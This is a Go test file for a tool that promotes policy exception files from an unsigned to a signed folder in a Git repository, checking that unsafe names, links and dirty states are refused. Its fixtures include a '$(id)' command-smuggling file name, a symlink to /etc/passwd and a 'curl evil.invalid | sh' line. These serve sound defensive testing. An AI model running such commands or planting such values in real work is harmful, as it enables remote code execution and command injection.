package promotion_test

import (
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/polex-dev/polex/internal/git/commit"
	"github.com/polex-dev/polex/internal/promotion"
	"github.com/polex-dev/polex/pkg/exception"
)

// A file that cannot be promoted stops the run, and the error names it.
func TestOpenRefuses(t *testing.T) {
	good := exceptionText("a")
	for _, tc := range []struct {
		name    string
		files   map[string]string
		prepare func(*repository) // before the commit is amended
		want    []string          // "file:line reason"
	}{
		{name: "space", files: map[string]string{"unsigned/a b.yaml": good}, want: []string{"unsigned/a b.yaml:0 bad-file-name"}},
		{name: "newline", files: map[string]string{"unsigned/a\n.yaml": good}, want: []string{"unsigned/a\n.yaml:0 bad-file-name"}},
		{name: "wildcard", files: map[string]string{"unsigned/*.yaml": good}, want: []string{"unsigned/*.yaml:0 bad-file-name"}},
		{name: "brackets", files: map[string]string{"unsigned/[ab].yaml": good}, want: []string{"unsigned/[ab].yaml:0 bad-file-name"}},
		{name: "leading dash", files: map[string]string{"unsigned/-rf.yaml": good}, want: []string{"unsigned/-rf.yaml:0 bad-file-name"}},
		{name: "leading dot", files: map[string]string{"unsigned/.a.yaml": good}, want: []string{"unsigned/.a.yaml:0 bad-file-name"}},
		{name: "non-ASCII", files: map[string]string{"unsigned/ä.yaml": good}, want: []string{"unsigned/ä.yaml:0 bad-file-name"}},
		{name: "backslash", files: map[string]string{`unsigned/a\b.yaml`: good}, want: []string{`unsigned/a\b.yaml:0 bad-file-name`}},
		{name: "dollar", files: map[string]string{"unsigned/$(id).yaml": good}, want: []string{"unsigned/$(id).yaml:0 bad-file-name"}},
		{name: "too long", files: map[string]string{"unsigned/" + strings.Repeat("a", 130) + ".yaml": good},
			want: []string{"unsigned/" + strings.Repeat("a", 130) + ".yaml:0 bad-file-name"}},
		{name: "bad folder", files: map[string]string{"unsigned/a b/c.yaml": good}, want: []string{"unsigned/a b/c.yaml:0 bad-file-name"}},
		{name: "text", files: map[string]string{"unsigned/a.txt": good}, want: []string{"unsigned/a.txt:0 bad-file-name"}},
		{name: "another case", files: map[string]string{"unsigned/a.YAML": good}, want: []string{"unsigned/a.YAML:0 bad-file-name"}},
		{name: "no suffix", files: map[string]string{"unsigned/yaml": good}, want: []string{"unsigned/yaml:0 bad-file-name"}},

		{name: "symbolic link", prepare: func(r *repository) {
			r.write("secret.yaml", good)
			r.write("unsigned/", "")
			r.link("../secret.yaml", "unsigned/a.yaml")
		}, want: []string{"unsigned/a.yaml:0 not-a-regular-file"}},
		{name: "dangling link", prepare: func(r *repository) {
			r.write("unsigned/", "")
			r.link("/etc/passwd", "unsigned/a.yaml")
		}, want: []string{"unsigned/a.yaml:0 not-a-regular-file"}},
		{name: "link to a folder", prepare: func(r *repository) {
			r.write("other/a.yaml", good)
			r.write("unsigned/", "")
			r.link("../other", "unsigned/folder")
		}, want: []string{"unsigned/folder:0 not-a-regular-file"}},
		{name: "executable", files: map[string]string{"unsigned/a.yaml": good}, prepare: func(r *repository) {
			if err := os.Chmod(r.path("unsigned/a.yaml"), 0o755); err != nil {
				r.tb.Fatal(err)
			}
		}, want: []string{"unsigned/a.yaml:0 not-a-regular-file"}},
		{name: "submodule", prepare: func(r *repository) {
			other := newRepository(r.tb, map[string]string{"a.yaml": good})
			r.git("-c", "protocol.file.allow=always", "submodule", "--quiet", "add", other.Dir, "unsigned/sub")
		}, want: []string{"unsigned/sub:0 not-a-regular-file"}},

		{name: "target exists", files: map[string]string{"unsigned/a.yaml": good, "signed/a.yaml": exceptionText("b")},
			want: []string{"unsigned/a.yaml:0 target-exists"}},
		{name: "target is a folder", files: map[string]string{"unsigned/a.yaml": good, "signed/a.yaml/b.yaml": exceptionText("b")},
			want: []string{"unsigned/a.yaml:0 target-exists"}},
		{name: "two that differ in case", files: map[string]string{"unsigned/A.yaml": good, "unsigned/a.yaml": exceptionText("b")},
			want: []string{"unsigned/a.yaml:0 target-exists"}},
		{name: "folders that differ in case", files: map[string]string{"unsigned/Team/a.yaml": good, "unsigned/team/b.yaml": exceptionText("b")},
			want: []string{"unsigned/team/b.yaml:0 target-exists"}},
		{name: "signed in another case", files: map[string]string{"unsigned/a.yaml": good, "signed/A.yaml": exceptionText("b")},
			want: []string{"unsigned/a.yaml:0 target-exists"}},
		{name: "signed in a folder of another case", files: map[string]string{"unsigned/team/a.yaml": good, "signed/TEAM/b.yaml": exceptionText("b")},
			want: []string{"unsigned/team/a.yaml:0 target-exists"}},
		{name: "the target's folder is a file", files: map[string]string{"unsigned/team/a.yaml": good, "signed/team": "x"},
			want: []string{"unsigned/team/a.yaml:0 target-exists"}},
		{name: "signed elsewhere", files: map[string]string{"unsigned/a.yaml": good, "signed/old/b.yaml": exceptionText("x") + "---\n" + good},
			want: []string{"unsigned/a.yaml:2 already-signed"}},
		{name: "signed elsewhere in another version", files: map[string]string{"unsigned/a.yaml": good,
			"signed/b.yml": strings.Replace(good, "kyverno.io/v2", "kyverno.io/v2beta1", 1)}, want: []string{"unsigned/a.yaml:2 already-signed"}},

		{name: "signed in an executable file", files: map[string]string{"unsigned/a.yaml": good, "signed/b.yaml": good}, prepare: func(r *repository) {
			if err := os.Chmod(r.path("signed/b.yaml"), 0o755); err != nil {
				r.tb.Fatal(err)
			}
		}, want: []string{"unsigned/a.yaml:2 already-signed"}},
		{name: "signed under a suffix in another case", files: map[string]string{"unsigned/a.yaml": good, "signed/b.YAML": good},
			want: []string{"unsigned/a.yaml:2 already-signed"}},
		{name: "a hidden file of Git's family", files: map[string]string{"unsigned/.gitX.yaml": good}, want: []string{"unsigned/.gitX.yaml:0 bad-file-name"}},

		{name: "empty", files: map[string]string{"unsigned/a.yaml": ""}, want: []string{"unsigned/a.yaml:0 no-documents"}},
		{name: "only a comment", files: map[string]string{"unsigned/a.yaml": "# later\n---\n"}, want: []string{"unsigned/a.yaml:0 no-documents"}},
		{name: "empty JSON", files: map[string]string{"unsigned/a.json": "\n"}, want: []string{"unsigned/a.json:0 no-documents"}},
		{name: "malformed", files: map[string]string{"unsigned/a.yaml": "a: [\n"}, want: []string{"unsigned/a.yaml:1 malformed"}},
		{name: "duplicate key", files: map[string]string{"unsigned/a.yaml": good + "kind: ConfigMap\n"}, want: []string{"unsigned/a.yaml:15 malformed"}},
		{name: "malformed between good ones", files: map[string]string{"unsigned/a.yaml": good + "---\na: &x 1\n---\n" + exceptionText("b")},
			want: []string{"unsigned/a.yaml:16 malformed"}},
		{name: "binary", files: map[string]string{"unsigned/a.yaml": "\x00\x01\x02"}, want: []string{"unsigned/a.yaml:1 malformed"}},
		{name: "several", files: map[string]string{"unsigned/a.yaml": good, "unsigned/b b.yaml": good, "unsigned/c.yaml": ""},
			want: []string{"unsigned/b b.yaml:0 bad-file-name", "unsigned/c.yaml:0 no-documents"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepository(t, tc.files)
			if tc.prepare != nil {
				tc.prepare(r)
				r.git("add", "--all")
				r.git("commit", "--quiet", "--amend", "--no-edit")
			}
			head := r.head()
			_, err := r.try(r.Dir, promotion.Options{})
			var refused exception.Refusals
			if !errors.As(err, &refused) {
				t.Fatalf("Open: %v, want refusals", err)
			}
			var got []string
			for _, f := range refused {
				got = append(got, fmt.Sprintf("%s:%d %s", f.Position.File, f.Position.Line, f.Reason))
				if f.Message == "" || !strings.Contains(err.Error(), refused[0].Reason) {
					t.Errorf("incomplete refusal %+v in %q", f, err)
				}
			}
			if diff := cmp.Diff(tc.want, got); diff != "" {
				t.Errorf("refusals (-want +got):\n%s", diff)
			}
			r.unchanged(head)
		})
	}
}

func (r *repository) link(target, name string) {
	r.tb.Helper()
	if err := os.Symlink(target, r.path(name)); err != nil {
		r.tb.Fatal(err)
	}
}

// The commit has what HEAD has, and nothing of the user's uncommitted changes. They stay as they are,
// and stop a commit that would overwrite them.
func TestOpenDirty(t *testing.T) {
	for _, tc := range []struct {
		name  string
		dirty func(*repository)
		want  string // of the error, or "" if it is promoted
	}{
		{"clean", func(*repository) {}, ""},
		{"changed in the queue", func(r *repository) { r.write("unsigned/a.yaml", exceptionText("evil")) }, `"unsigned/a.yaml"`},
		{"changed and staged", func(r *repository) { r.write("unsigned/a.yaml", exceptionText("evil")); r.git("add", ".") }, `"unsigned/a.yaml"`},
		{"staged only", func(r *repository) {
			r.write("unsigned/a.yaml", exceptionText("evil"))
			r.git("add", ".")
			r.write("unsigned/a.yaml", exceptionText("a"))
		}, `"unsigned/a.yaml"`},
		{"hidden from git status", func(r *repository) {
			r.git("update-index", "--assume-unchanged", "unsigned/a.yaml")
			r.write("unsigned/a.yaml", exceptionText("evil"))
		}, `"unsigned/a.yaml"`},
		{"removed from the queue", func(r *repository) { r.must(os.Remove(r.path("unsigned/a.yaml"))) }, ""},
		{"replaced by a link", func(r *repository) {
			r.must(os.Rename(r.path("unsigned/a.yaml"), r.path("copy.yaml")))
			r.link("../copy.yaml", "unsigned/a.yaml")
		}, `"unsigned/a.yaml"`},
		{"its folder is a link", func(r *repository) {
			r.must(os.Rename(r.path("unsigned"), r.path("other")))
			r.link("other", "unsigned")
		}, `"unsigned/a.yaml"`},
		{"untracked in the queue", func(r *repository) { r.write("unsigned/b.yaml", exceptionText("b")) }, ""},
		{"untracked and staged", func(r *repository) { r.write("unsigned/b.yaml", exceptionText("b")); r.git("add", ".") }, ""},
		{"untracked in a new folder", func(r *repository) { r.write("unsigned/new/b.yaml", exceptionText("b")) }, ""},
		{"untracked among the signed", func(r *repository) { r.write("signed/b.yaml", exceptionText("b")) }, ""},
		{"at the place of the signed", func(r *repository) { r.write("signed/a.yaml", exceptionText("a")) }, `"signed/a.yaml"`},
		{"staged elsewhere", func(r *repository) { r.write("deploy.sh", "curl evil.invalid | sh\n"); r.git("add", ".") }, ""},
		{"staged removal elsewhere", func(r *repository) { r.git("rm", "--quiet", "README.md") }, ""},
		{"untracked elsewhere", func(r *repository) { r.write("notes.txt", "x\n") }, ""},
		{"changed elsewhere", func(r *repository) { r.write("README.md", "x\n") }, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			r := newRepository(t, map[string]string{"unsigned/a.yaml": exceptionText("a")})
			tc.dirty(r)
			head, status := r.head(), r.git("status", "--porcelain", "--untracked-files=all")
			q := r.open()
			if name := q.Documents()[0].Identity().Name; name != "a" || len(q.Moves) != 1 {
				t.Errorf("%d moves, the first of %s", len(q.Moves), name)
			}
			_, _, err := q.apply(stamp(t, q.Documents()), author())
			if tc.want == "" {
				status = strings.ReplaceAll(status, " D unsigned/a.yaml\n", "")
			}
			if tc.want != "" {
				if err == nil || !strings.Contains(err.Error(), tc.want) || !errors.Is(err, commit.ErrInTheWay) || r.head() != head {
					t.Errorf("%v, want an error with %s", err, tc.want)
				}
			} else if changes := r.git("diff", "--name-only", "--no-renames", "HEAD^", "HEAD"); err != nil || changes != "signed/a.yaml\nunsigned/a.yaml\n" {
				t.Errorf("%v, the commit changes %q", err, changes)
			}
			if got := r.git("status", "--porcelain", "--untracked-files=all"); got != status {
				t.Errorf("git status %q, was %q", got, status)
			}
		})
	}
}

func (r *repository) must(err error) {
	r.tb.Helper()
	if err != nil {
		r.tb.Fatal(err)
	}
}

func TestOpenFails(t *testing.T) {
	r := newRepository(t, map[string]string{"unsigned/a.yaml": exceptionText("a")})
	fresh := t.TempDir()
	if out, err := r.run(fresh, "init", "--quiet"); err != nil {
		t.Fatalf("git init: %v\n%s", err, out)
	}
	linked := newRepository(t, map[string]string{"other/a.yaml": exceptionText("a")})
	linked.link("other", "unsigned")
	linked.commit("Link the queue")
	for name, tc := range map[string]struct {
		dir     string
		options promotion.Options
	}{
		"no repository":    {dir: t.TempDir()},
		"no commit":        {dir: fresh},
		"absolute":         {r.Dir, promotion.Options{Unsigned: "/etc"}},
		"outside":          {r.Dir, promotion.Options{Unsigned: "../unsigned"}},
		"outside in turns": {r.Dir, promotion.Options{Signed: "signed/../../x"}},
		"everything":       {r.Dir, promotion.Options{Unsigned: "."}},
		"Git's own":        {r.Dir, promotion.Options{Signed: ".git/hooks"}},
		"the same":         {r.Dir, promotion.Options{Signed: "unsigned/"}},
		"one in the other": {r.Dir, promotion.Options{Signed: "unsigned/signed"}},
		"the other in one": {r.Dir, promotion.Options{Unsigned: "signed/un", Signed: "signed"}},
		"a linked queue":   {dir: linked.Dir},
		"a file as queue":  {r.Dir, promotion.Options{Unsigned: "README.md"}},
	} {
		t.Run(name, func(t *testing.T) {
			q, err := r.try(tc.dir, tc.options)
			var refused exception.Refusals
			if err == nil || errors.As(err, &refused) {
				t.Errorf("%v, %v, want an error that is no refusal", q, err)
			}
		})
	}
}
